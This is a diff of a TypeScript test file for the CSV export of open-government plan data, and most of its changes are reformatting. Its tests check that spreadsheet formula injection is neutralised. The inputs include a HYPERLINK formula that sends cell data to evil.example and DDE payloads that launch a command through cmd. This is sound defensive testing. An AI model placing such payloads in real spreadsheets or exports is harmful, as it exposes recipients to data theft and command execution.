@@ -3,9 +3,9 @@ import { CSV_COLUMNS, PlanExport, csvField, toCsv } from './open-data';
 describe('a CSV cell of the open-data export', () => {
   it.each([
     ['=', '=HYPERLINK("http://evil.example/?d="&A1,"details")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")"`],
-    ['+', '+cmd|\' /C calc\'!A0', `"'+cmd|' /C calc'!A0"`],
-    ['-', '-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
-    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
     ['a tab', '\t=1+1', `"'\t=1+1"`],
     ['a carriage return', '\r=1+1', `"'\r=1+1"`],
   ])('starting with %s is made text by a single quote, inside the RFC 4180 quotes', (_, text, cell) => {
@@ -32,7 +32,15 @@ describe('a CSV cell of the open-data export', () => {
 
 describe('the CSV export of a plan', () => {
   const data: PlanExport = {
-    plan: { id: 'p1', title: '=Plan', country: 'CO', periodStart: '2020-01-01', periodEnd: '2022-12-31', themes: ['open data'], phase: 'implementation' },
+    plan: {
+      id: 'p1',
+      title: '=Plan',
+      country: 'CO',
+      periodStart: '2020-01-01',
+      periodEnd: '2022-12-31',
+      themes: ['open data'],
+      phase: 'implementation',
+    },
     asOfPosition: 12,
     commitments: [
       {
@@ -44,8 +52,23 @@ describe('the CSV export of a plan', () => {
         themes: ['-fiscal', 'open data'],
         adoptedAt: '2020-03-01T00:00:00.000Z',
         completion: 'limited',
-        milestones: [{ id: 'm1', title: 'Portal', deliverable: '-10 % of the budget online', startDate: '2020-04-01', endDate: '2020-12-31', completion: 'limited' }],
-        latestProgress: { date: '2020-06-01T00:00:00.000Z', completion: 'limited', note: '-3', evidenceUrl: 'https://example.org/report', milestoneId: 'm1' },
+        milestones: [
+          {
+            id: 'm1',
+            title: 'Portal',
+            deliverable: '-10 % of the budget online',
+            startDate: '2020-04-01',
+            endDate: '2020-12-31',
+            completion: 'limited',
+          },
+        ],
+        latestProgress: {
+          date: '2020-06-01T00:00:00.000Z',
+          completion: 'limited',
+          note: '-3',
+          evidenceUrl: 'https://example.org/report',
+          milestoneId: 'm1',
+        },
       },
     ],
   };
